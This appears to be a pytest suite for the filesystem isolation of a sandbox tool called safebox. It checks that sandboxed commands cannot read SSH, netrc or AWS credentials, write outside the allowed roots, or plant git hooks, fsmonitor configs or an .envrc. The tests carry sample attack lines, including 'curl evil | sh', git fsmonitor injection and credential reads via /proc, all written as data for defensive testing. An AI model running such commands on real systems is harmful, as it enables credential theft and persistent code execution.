"""Filesystem attacks through the real ``safebox exec``: credentials, writes, protected files, /tmp.

Each "blocked" test has a control (the same action on the host, or with the
other layer) and asserts the exact message or errno. Layer modes are only
parametrized where that mode claims to stop the attack: on a helper-only host
there is no mount or pid isolation, and protected files *inside* a write root
are not protected by Landlock (docs/threat-model.md).
"""

from __future__ import annotations

import os
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from sbx import (
    BOTH,
    BWRAP_ONLY,
    EACCES,
    EROFS,
    HELPER_ONLY,
    FakeHome,
    host,
    pids_with_arg,
    token,
    tree_listing,
    unique_sleep_arg,
    wait_for,
)

ALL_MODES = [BOTH, BWRAP_ONLY, HELPER_ONLY]
MOUNT_MODES = [BOTH, BWRAP_ONLY]  # the modes that have bubblewrap's mount namespace

# What reading a masked credential looks like: bubblewrap covers a credential
# dir with an empty tmpfs (the file is gone) and a credential file with
# /dev/null (empty); the helper alone leaves it outside every Landlock grant.
DIR_MASK_MESSAGE = {BOTH: "No such file or directory", BWRAP_ONLY: "No such file or directory",
                    HELPER_ONLY: "Permission denied"}
WRITE_DENIED = {BOTH: "Read-only file system", BWRAP_ONLY: "Read-only file system", HELPER_ONLY: "Permission denied"}
WRITE_ERRNO = {BOTH: EROFS, BWRAP_ONLY: EROFS, HELPER_ONLY: EACCES}


# ------------------------------------------------------------------ credentials

@pytest.mark.parametrize("mode", ALL_MODES)
def test_ssh_private_key_is_unreadable_inside(shared_home: FakeHome, mode: str) -> None:
    key = shared_home.root / ".ssh" / "id_rsa"
    control = host(["cat", str(key)])
    assert control.returncode == 0 and shared_home.secret in control.stdout

    r = shared_home.run(["cat", str(key)], mode=mode)
    assert r.returncode == 1
    assert shared_home.secret not in r.stdout
    assert DIR_MASK_MESSAGE[mode] in r.stderr, r.stderr


@pytest.mark.parametrize("mode", ALL_MODES)
def test_netrc_credential_file_is_unreadable_inside(shared_home: FakeHome, mode: str) -> None:
    netrc = shared_home.root / ".netrc"
    assert shared_home.secret in host(["cat", str(netrc)]).stdout

    r = shared_home.run(["cat", str(netrc)], mode=mode)
    assert shared_home.secret not in r.stdout
    # Under bubblewrap the file is covered by /dev/null, bound nodev: opening
    # the device node fails with EACCES; the helper alone denies it by Landlock.
    assert r.returncode == 1
    assert f"cat: {netrc}: Permission denied" in r.stderr, r.stderr


@pytest.mark.parametrize("mode", ALL_MODES)
@pytest.mark.parametrize("via", [".aws/credentials", ".aws-real/credentials"])
def test_symlinked_credential_dir_is_masked_through_its_target(shared_home: FakeHome, mode: str, via: str) -> None:
    path = shared_home.root / via
    assert (shared_home.root / ".aws").is_symlink()
    assert shared_home.secret in host(["cat", str(path)]).stdout

    r = shared_home.run(["cat", str(path)], mode=mode)
    assert shared_home.secret not in r.stdout
    assert r.returncode == 1
    assert DIR_MASK_MESSAGE[mode] in r.stderr, r.stderr


@pytest.mark.parametrize("mode", ALL_MODES)
def test_a_hardlink_to_a_credential_made_before_the_run_is_not_detected(fresh_home: FakeHome, mode: str) -> None:
    """Documented limit (docs/threat-model.md): masking works on paths, and a
    hard link made beforehand outside a masked dir is another path to the same
    inode. safebox cannot find it without scanning every file."""
    link = fresh_home.work / "innocent.txt"
    os.link(fresh_home.root / ".ssh" / "id_rsa", link)

    r = fresh_home.run(["cat", str(link)], mode=mode)
    assert r.returncode == 0
    assert fresh_home.secret in r.stdout  # the limit, stated honestly


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_root_of_a_host_process_is_not_reachable_through_proc(shared_home: FakeHome, mode: str) -> None:
    arg = unique_sleep_arg()
    sleeper = subprocess.Popen(["sleep", arg])
    try:
        assert wait_for(lambda: pids_with_arg(arg))
        pid = sleeper.pid
        secret_via_proc = f"/proc/{pid}/root{shared_home.root}/.ssh/id_rsa"
        control = host(["cat", secret_via_proc])
        assert control.returncode == 0 and shared_home.secret in control.stdout

        r = shared_home.run(["sh", "-c", f"ls -d /proc/{pid}/root; cat {secret_via_proc}"], mode=mode)
        assert shared_home.secret not in r.stdout
        assert f"cannot access '/proc/{pid}/root': No such file or directory" in r.stderr, r.stderr
    finally:
        sleeper.kill()
        sleeper.wait()


@pytest.mark.parametrize("mode", ALL_MODES)
def test_credential_descriptor_opened_by_the_caller_is_closed_inside(shared_home: FakeHome, mode: str) -> None:
    fd = os.open(shared_home.root / ".ssh" / "id_rsa", os.O_RDONLY)
    try:
        control = host(["cat", f"/dev/fd/{fd}"], pass_fds=(fd,))
        assert control.returncode == 0 and shared_home.secret in control.stdout
        os.lseek(fd, 0, os.SEEK_SET)

        r = shared_home.run(["sh", "-c", f"ls /proc/self/fd; cat /dev/fd/{fd}"], mode=mode, pass_fds=(fd,))
        assert shared_home.secret not in r.stdout
        assert f"cat: /dev/fd/{fd}: No such file or directory" in r.stderr, r.stderr
        assert str(fd) not in r.stdout.split()
    finally:
        os.close(fd)


# ------------------------------------------------------------------ writes outside the roots

@pytest.mark.parametrize("mode", ALL_MODES)
def test_creating_a_file_outside_the_write_roots_fails(shared_home: FakeHome, probe: Path, mode: str) -> None:
    control_path = shared_home.root / f"control-{token()}"
    assert host([str(probe), "write_file", str(control_path)]).returncode == 0
    control_path.unlink()

    target = shared_home.root / f"created-{token()}"
    r = shared_home.run([str(probe), "write_file", str(target)], mode=mode)
    assert r.returncode == WRITE_ERRNO[mode], r.stdout + r.stderr
    assert not target.exists()


@pytest.mark.parametrize("mode", ALL_MODES)
def test_appending_to_an_existing_file_outside_the_write_roots_fails(shared_home: FakeHome, mode: str) -> None:
    target = shared_home.root / "outside.txt"
    before = target.read_text()
    r = shared_home.run(["sh", "-c", f"echo pwned >> {target}"], mode=mode)
    assert r.returncode != 0
    assert WRITE_DENIED[mode] in r.stderr, r.stderr
    assert target.read_text() == before


@pytest.mark.parametrize("mode", ALL_MODES)
def test_writing_inside_the_working_directory_succeeds(shared_home: FakeHome, mode: str) -> None:
    name = f"written-{token()}"
    r = shared_home.run(["sh", "-c", f"echo ok > {name}"], mode=mode)
    assert r.returncode == 0, r.stderr
    assert (shared_home.work / name).read_text() == "ok\n"
    (shared_home.work / name).unlink()


# ------------------------------------------------------------------ the host's /dev

@pytest.fixture
def host_shm_file() -> Iterator[Path]:
    """A file in the host's /dev/shm, outside every write root, that this user may read and write."""
    fd, name = tempfile.mkstemp(prefix="safebox-test-", dir="/dev/shm")
    os.write(fd, b"host shared memory\n")
    os.close(fd)
    try:
        yield Path(name)
    finally:
        os.unlink(name)


@pytest.mark.parametrize("mode", [HELPER_ONLY])
def test_the_host_dev_is_outside_the_grant_on_a_helper_only_host(fresh_home: FakeHome, host_shm_file: Path,
                                                                   mode: str) -> None:
    """Without bwrap, /dev is the host's: raw disks, loop devices, uinput,
    /dev/userfaultfd, other processes' shared memory. Landlock grants none of
    it; only the harmless nodes stay usable."""
    script = f"cat {host_shm_file}; echo x >> {host_shm_file}"
    control = host(["sh", "-c", script])
    assert control.returncode == 0 and "host shared memory" in control.stdout
    host_shm_file.write_text("host shared memory\n")

    r = fresh_home.run(["sh", "-c", script], mode=mode)
    assert r.returncode != 0
    assert f"cat: {host_shm_file}: Permission denied" in r.stderr, r.stderr
    # The command's own last line (safebox's summary of refusals follows it).
    own = [line for line in r.stderr.splitlines() if not line.startswith("safebox:")]
    assert f"{host_shm_file}: Permission denied" in own[-1], r.stderr
    assert host_shm_file.read_text() == "host shared memory\n"


@pytest.mark.parametrize("mode", ALL_MODES)
def test_the_harmless_device_nodes_work_inside(fresh_home: FakeHome, mode: str) -> None:
    script = ("echo x > /dev/null && head -c 4 /dev/zero | od -An -tx1 && head -c 8 /dev/urandom | wc -c "
              "&& head -c 8 /dev/random | wc -c && (echo x > /dev/full; echo full=$?)")
    r = fresh_home.run(["sh", "-c", script], mode=mode)
    assert r.returncode == 0, r.stderr
    # /dev/full refuses the write as it does on the host (ENOSPC; dash calls it an I/O error).
    assert r.stdout.split() == ["00", "00", "00", "00", "8", "8", "full=1"], r.stdout


@pytest.mark.parametrize("mode", ALL_MODES)
def test_a_denied_path_under_proc_is_masked_not_skipped(fresh_home: FakeHome, mode: str) -> None:
    control = fresh_home.run(["head", "-c", "9", "/proc/cpuinfo"], mode=mode)
    assert control.returncode == 0 and control.stdout, control.stderr

    r = fresh_home.run(["head", "-c", "9", "/proc/cpuinfo"], mode=mode, opts=["--deny-read", "/proc/cpuinfo"])
    assert r.returncode == 1 and r.stdout == ""
    assert "head: cannot open '/proc/cpuinfo' for reading: Permission denied" in r.stderr, r.stderr


@pytest.mark.parametrize("mode", ALL_MODES)
@pytest.mark.parametrize("node", ["/dev/null", "/dev/urandom", "/dev/pts"])
def test_denying_a_device_every_sandbox_needs_is_an_error_not_a_skip(fresh_home: FakeHome, mode: str,
                                                                      node: str) -> None:
    marker = fresh_home.work / "ran"
    r = fresh_home.run(["touch", str(marker)], mode=mode, opts=["--deny-read", node])
    assert r.returncode == 125 and not marker.exists()
    assert f"safebox: filesystem.denyRead {node}: cannot be masked" in r.stderr, r.stderr


# ------------------------------------------------------------------ protected files

@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_bashrc_stays_read_only_when_the_whole_home_is_writable(fresh_home: FakeHome, mode: str) -> None:
    rc = fresh_home.root / ".bashrc"
    r = fresh_home.run(["sh", "-c", f"echo ok > {fresh_home.root}/notes.txt; echo evil >> {rc}"],
                       mode=mode, opts=["--allow-write", "~"])
    # Control in the same run: the rest of HOME is writable.
    assert (fresh_home.root / "notes.txt").read_text() == "ok\n"
    assert r.returncode != 0
    assert f"{rc}: Read-only file system" in r.stderr, r.stderr
    assert rc.read_text() == "# fake rc\n"


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_git_config_is_read_only_inside_the_work_tree(fresh_home: FakeHome, mode: str) -> None:
    cfg = fresh_home.work / ".git" / "config"
    before = cfg.read_text()
    r = fresh_home.run(["sh", "-c", "echo ok > README.md; printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config"],
                       mode=mode)
    assert (fresh_home.work / "README.md").read_text() == "ok\n"  # control: the tree is writable
    assert r.returncode != 0
    assert ".git/config: Read-only file system" in r.stderr, r.stderr
    assert cfg.read_text() == before


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_creating_a_git_hook_fails_when_the_hooks_dir_exists(fresh_home: FakeHome, mode: str) -> None:
    hook = fresh_home.work / ".git" / "hooks" / "post-checkout"
    r = fresh_home.run(["sh", "-c", "echo ok > src/new.c; printf '#!/bin/sh\\nevil\\n' > .git/hooks/post-checkout"],
                       mode=mode)
    assert (fresh_home.work / "src" / "new.c").exists()  # control
    assert r.returncode != 0
    assert ".git/hooks/post-checkout: Read-only file system" in r.stderr, r.stderr
    assert not hook.exists()


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_creating_a_git_hook_fails_when_the_hooks_dir_is_absent(fresh_home: FakeHome, mode: str) -> None:
    hooks = fresh_home.work / ".git" / "hooks"
    for f in hooks.iterdir():
        f.unlink()
    hooks.rmdir()
    r = fresh_home.run(["sh", "-c", "echo ok > .git/description && mkdir .git/hooks"], mode=mode)
    assert (fresh_home.work / ".git" / "description").read_text() == "ok\n"  # other .git entries stay writable
    assert r.returncode != 0
    assert "cannot create directory '.git/hooks': Read-only file system" in r.stderr, r.stderr
    assert not hooks.exists()
    assert sorted(p.name for p in (fresh_home.work / ".git").iterdir()) == \
        ["HEAD", "config", "description", "info", "objects", "refs"]  # no placeholder left behind


@pytest.mark.parametrize("mode", MOUNT_MODES)
@pytest.mark.parametrize("what", [".git", ".git/hooks"])
def test_renaming_a_protected_git_dir_away_fails(fresh_home: FakeHome, mode: str, what: str) -> None:
    r = fresh_home.run(["sh", "-c", f"mv src src-moved && mv {what} {what}-old"], mode=mode)
    assert (fresh_home.work / "src-moved").is_dir()  # control: an ordinary dir can be renamed
    assert r.returncode != 0
    assert ("Device or resource busy" in r.stderr) or ("Read-only file system" in r.stderr), r.stderr
    assert (fresh_home.work / what).is_dir()
    assert not (fresh_home.work / f"{what}-old").exists()


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_writing_through_a_symlink_planted_inside_to_a_protected_file_fails(fresh_home: FakeHome, mode: str) -> None:
    r = fresh_home.run(["sh", "-c", "ln -s .git/config cfg-link && echo evil >> cfg-link"], mode=mode)
    assert (fresh_home.work / "cfg-link").is_symlink()  # planting the link itself is allowed
    assert r.returncode != 0
    assert "cfg-link: Read-only file system" in r.stderr, r.stderr
    assert "evil" not in (fresh_home.work / ".git" / "config").read_text()


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_writing_through_a_symlink_planted_before_the_run_to_a_protected_file_fails(fresh_home: FakeHome,
                                                                                  mode: str) -> None:
    (fresh_home.work / "hooks-link").symlink_to(fresh_home.work / ".git" / "hooks")
    r = fresh_home.run(["sh", "-c", "echo evil > hooks-link/post-merge"], mode=mode)
    assert r.returncode != 0
    assert "hooks-link/post-merge: Read-only file system" in r.stderr, r.stderr
    assert not (fresh_home.work / ".git" / "hooks" / "post-merge").exists()


@pytest.mark.parametrize("mode", ALL_MODES)
def test_writing_through_a_symlink_to_a_file_outside_the_write_roots_fails(fresh_home: FakeHome, mode: str) -> None:
    rc = fresh_home.root / ".bashrc"
    (fresh_home.work / "rc-link").symlink_to(rc)
    assert host(["test", "-w", str(fresh_home.work / "rc-link")]).returncode == 0  # control
    r = fresh_home.run(["sh", "-c", "echo evil >> rc-link"], mode=mode)
    assert r.returncode != 0
    assert f"rc-link: {WRITE_DENIED[mode]}" in r.stderr, r.stderr
    assert rc.read_text() == "# fake rc\n"


@pytest.mark.parametrize("mode", ALL_MODES)
def test_a_protected_file_created_at_the_work_root_is_quarantined_after_the_run(fresh_home: FakeHome,
                                                                               mode: str) -> None:
    envrc = fresh_home.work / ".envrc"
    r = fresh_home.run(["sh", "-c", "echo 'curl evil | sh' > .envrc"], mode=mode)
    assert r.returncode == 0, r.stderr
    assert not envrc.exists()
    assert f"the command created protected file {envrc}; moved it to" in r.stderr, r.stderr


def _git_dir(d: Path) -> Path:
    """The inside of a git directory as `git init` makes it, under any name."""
    for sub in ("hooks", "objects", "refs/heads"):
        (d / sub).mkdir(parents=True)
    (d / "HEAD").write_text("ref: refs/heads/main\n")
    (d / "config").write_text("[core]\n\trepositoryformatversion = 0\n")
    (d / "description").write_text("unnamed\n")
    return d


FSMONITOR = "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> {}"


@pytest.mark.parametrize("mode", MOUNT_MODES)
@pytest.mark.parametrize("layout", ["bare", "separate"])
def test_a_git_dir_not_named_dot_git_is_protected_like_one(fresh_home: FakeHome, mode: str, layout: str) -> None:
    """`git init --bare x.git` and `git init --separate-git-dir=sep.git repo`:
    git on the host reads their config and runs their hooks all the same."""
    gd = _git_dir(fresh_home.work / ("x.git" if layout == "bare" else "sep.git"))
    if layout == "separate":
        (fresh_home.work / "repo").mkdir()
        (fresh_home.work / "repo" / ".git").write_text(f"gitdir: {gd}\n")
    attacks = [FSMONITOR.format(gd / "config"), f"echo evil > {gd}/hooks/post-checkout"]
    if layout == "separate":
        attacks.append(f"echo 'gitdir: {fresh_home.work}/evil' > repo/.git")
    for attack in attacks:
        # Control: the same shell line lands on the host.
        r = fresh_home.run(["sh", "-c", attack], mode=mode)
        assert r.returncode != 0 and "Read-only file system" in r.stderr, (attack, r.stderr)
    assert "fsmonitor" not in (gd / "config").read_text()
    assert not (gd / "hooks" / "post-checkout").exists()
    # Control: an unprotected entry of the same git dir stays writable inside.
    ok = fresh_home.run(["sh", "-c", f"echo renamed > {gd}/description"], mode=mode)
    assert ok.returncode == 0 and (gd / "description").read_text() == "renamed\n", ok.stderr
    for attack in attacks:
        assert host(["sh", "-c", attack], cwd=fresh_home.work).returncode == 0


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_a_linked_worktrees_commondir_cannot_be_pointed_at_a_planted_repo(fresh_home: FakeHome, mode: str) -> None:
    """.git/worktrees/NAME/commondir names the git dir whose config and hooks
    the worktree uses: pointed at a repo the command crafted, `git status` in
    the worktree would run the crafted fsmonitor on the host."""
    admin = fresh_home.work / ".git" / "worktrees" / "wt"
    admin.mkdir(parents=True)
    (admin / "HEAD").write_text("ref: refs/heads/wt\n")
    (admin / "commondir").write_text("../..\n")
    (admin / "gitdir").write_text(f"{fresh_home.root}/wt/.git\n")
    r = fresh_home.run(["sh", "-c", f"echo {fresh_home.work}/evil > {admin}/commondir"], mode=mode)
    assert r.returncode != 0 and "commondir: Read-only file system" in r.stderr, r.stderr
    assert (admin / "commondir").read_text() == "../..\n"
    # Control: git's own per-worktree state in the same dir stays writable.
    ok = fresh_home.run(["sh", "-c", f"echo ref: refs/heads/other > {admin}/HEAD && touch {admin}/index.lock"],
                        mode=mode)
    assert ok.returncode == 0, ok.stderr
    assert host(["sh", "-c", f"echo x > {admin}/commondir"]).returncode == 0


# ------------------------------------------------------------------ /tmp

@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_host_tmp_files_are_invisible_inside(shared_home: FakeHome, mode: str) -> None:
    with tempfile.NamedTemporaryFile("w", dir="/tmp", prefix="safebox-host-") as f:
        f.write(shared_home.secret)
        f.flush()
        assert host(["cat", f.name]).stdout == shared_home.secret  # control
        r = shared_home.run(["cat", f.name], mode=mode)
        assert r.returncode == 1
        assert f"cat: {f.name}: No such file or directory" in r.stderr, r.stderr


@pytest.mark.parametrize("mode", ALL_MODES)
def test_tmpdir_exists_and_is_writable_inside(shared_home: FakeHome, mode: str) -> None:
    r = shared_home.run(["sh", "-c", 'd="${TMPDIR:-/tmp}"; f="$d/sbx.$$"; echo hi > "$f" && cat "$f" && rm "$f"'],
                        mode=mode)
    assert r.returncode == 0, r.stderr
    assert r.stdout == "hi\n"


# ------------------------------------------------------------------ no leftovers in the user's tree

@pytest.mark.parametrize("mode", ALL_MODES)
def test_a_run_leaves_no_placeholder_in_the_home_or_work_tree(fresh_home: FakeHome, mode: str) -> None:
    # Remove .git/hooks too, so the sealed-dir path (which must not create placeholders) is exercised.
    hooks = fresh_home.work / ".git" / "hooks"
    for f in hooks.iterdir():
        f.unlink()
    hooks.rmdir()
    state = fresh_home.root / ".cache"
    # safebox's first run creates its own two directories, ~/.cache/safebox
    # and an empty ~/.config/safebox (which must exist to be masked); after
    # that, a run must leave the tree exactly as it found it.
    opts = ["--allow-write", "~"] if mode != HELPER_ONLY else []
    initial = tree_listing(fresh_home.root, exclude=[state])
    first = fresh_home.run(["true"], mode=mode, opts=opts)
    assert first.returncode == 0, first.stderr
    after_first = tree_listing(fresh_home.root, exclude=[state])
    assert set(after_first) - set(initial) == {".config", ".config/safebox"}
    assert {k: v for k, v in after_first.items() if k not in (".config", ".config/safebox")} == initial
    assert list((fresh_home.root / ".config" / "safebox").iterdir()) == []
    before = after_first
    r = fresh_home.run(["true"], mode=mode, opts=opts)
    assert r.returncode == 0, r.stderr
    assert tree_listing(fresh_home.root, exclude=[state]) == before



@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_a_bare_repo_stays_protected_after_the_command_hid_what_makes_it_one(fresh_home: FakeHome,
                                                                             mode: str) -> None:
    """Run 1 renames objects/ away (allowed: it is no protected entry), so
    that by content x.git no longer looks like a repository; run 2 plants a
    hook and puts objects/ back (found in review). safebox remembers the git
    dirs it recognised (state dir), so run 2 finds hooks/ still read-only."""
    gd = _git_dir(fresh_home.work / "x.git")
    r1 = fresh_home.run(["sh", "-c", f"mv {gd}/objects {gd}/objects.x"], mode=mode)
    assert r1.returncode == 0, r1.stderr  # control: the rename itself is allowed
    r2 = fresh_home.run(["sh", "-c", f"echo evil > {gd}/hooks/post-update; mv {gd}/objects.x {gd}/objects"],
                        mode=mode)
    assert "hooks/post-update: Read-only file system" in r2.stderr, r2.stderr
    assert not (gd / "hooks" / "post-update").exists()
    # Control: with the memory gone between the two runs, the write lands
    # inside (hooks/ is not read-only); only the watch after the run, which
    # finds a new hook in a directory holding HEAD at any depth (issue 22),
    # takes it out again.
    fresh_home.run(["sh", "-c", f"mv {gd}/objects {gd}/objects.x"], mode=mode)
    (fresh_home.root / ".cache" / "safebox" / "known-git-dirs").unlink()
    r3 = fresh_home.run(["sh", "-c", f"echo evil > {gd}/hooks/post-update && cat {gd}/hooks/post-update"],
                        mode=mode)
    assert r3.returncode == 0 and r3.stdout == "evil\n", r3.stderr
    assert f"the command created protected file {gd}/hooks/post-update; moved it to " in r3.stderr, r3.stderr


@pytest.mark.parametrize("mode", MOUNT_MODES)
def test_a_worktree_admin_dir_stays_protected_after_the_command_made_it_look_like_a_repo(fresh_home: FakeHome,
                                                                                        mode: str) -> None:
    admin = fresh_home.work / ".git" / "worktrees" / "wt"
    admin.mkdir(parents=True)
    (admin / "HEAD").write_text("ref: refs/heads/wt\n")
    (admin / "commondir").write_text("../..\n")
    r1 = fresh_home.run(["sh", "-c", f"mkdir {admin}/objects"], mode=mode)
    assert r1.returncode == 0, r1.stderr
    r2 = fresh_home.run(["sh", "-c", f"echo {fresh_home.work}/fake > {admin}/commondir"], mode=mode)
    assert "commondir: Read-only file system" in r2.stderr, r2.stderr
    assert (admin / "commondir").read_text() == "../..\n"
